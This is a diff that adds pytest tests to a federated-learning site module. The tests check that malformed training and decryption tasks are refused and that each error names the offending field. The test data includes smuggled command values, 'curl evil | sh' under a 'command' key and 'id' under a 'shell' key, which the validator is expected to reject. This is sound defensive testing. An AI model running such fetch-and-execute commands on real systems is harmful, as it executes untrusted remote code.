@@ -3,7 +3,7 @@ import pytest
 from fedsec.core.errors import ConfigError
 from fedsec.engines.nvflare.gate import AcceptanceGate
 from fedsec.engines.nvflare.plan import PlanRefused
-from fedsec.engines.nvflare.site import Site
+from fedsec.engines.nvflare.site import TASKS, Site
 from fedsec.engines.nvflare.site_config import (
     GateConfig,
     SecureAggregationConfig,
@@ -154,3 +154,41 @@ def test_a_site_may_bound_the_learning_rate_lower(consortium):
     request, _ = _train_request(strict, consortium)
     with pytest.raises(PlanRefused, match=r"training\.lr 0\.05 exceeds this site's limit 0\.01"):
         strict.handle("fedsec_train", request)
+
+
+def test_every_task_a_job_may_send_has_one_handler(site):
+    """The executor's task list and the site's handler table name the same tasks: no task
+    reaches a method by its name."""
+    assert set(site.handlers()) == set(TASKS)
+    assert site.handlers()["fedsec_he_decrypt"] == site.he.decrypt
+    assert site.handlers()["fedsec_secagg_mask"] == site.secure.mask
+
+
+def test_a_malformed_training_task_is_refused_naming_the_field(site, consortium):
+    """Typed on receipt: a field the task does not have, one missing, or arrays of the wrong
+    kind are refused before anything runs, whatever the coordinator sends."""
+    request, _ = _train_request(site, consortium)
+    with pytest.raises(PlanRefused, match="training task refused: unexpected field 'command'"):
+        site.handle("fedsec_train", request | {"command": "curl evil | sh"})
+    missing = {k: v for k, v in request.items() if k != "params"}
+    with pytest.raises(PlanRefused, match="training task refused: missing field 'params'"):
+        site.handle("fedsec_train", missing)
+    with pytest.raises(PlanRefused, match=r"training task \(params\) refused: expected a list"):
+        site.handle("fedsec_train", request | {"params": ["not", "arrays"]})
+    with pytest.raises(PlanRefused, match=r"control variate: expected \d+ parameter arrays"):
+        site.handle("fedsec_train", request | {"control": request["params"][:1]})
+    with pytest.raises(PlanRefused, match="evaluation refused: missing field 'target_fpr'"):
+        site.handle("fedsec_evaluate", request)
+    assert "params" in site.handle("fedsec_train", request)
+
+
+def test_a_malformed_decryption_task_is_refused_naming_the_field(site):
+    task = {"round": 1, "ciphertext": [b"\x01"], "contributors": ["plant", "cloud"]}
+    with pytest.raises(PlanRefused, match="decryption refused: unexpected field 'shell'"):
+        site.handle("fedsec_he_decrypt", task | {"shell": "id"})
+    with pytest.raises(PlanRefused, match="decryption refused: round '1' is not a round number"):
+        site.handle("fedsec_he_decrypt", task | {"round": "1"})
+    with pytest.raises(PlanRefused, match="contributors: names repeat"):
+        site.handle("fedsec_he_decrypt", task | {"contributors": ["plant", "plant"]})
+    with pytest.raises(PlanRefused, match="no encrypted update of round 1 here"):
+        site.handle("fedsec_he_decrypt", task)
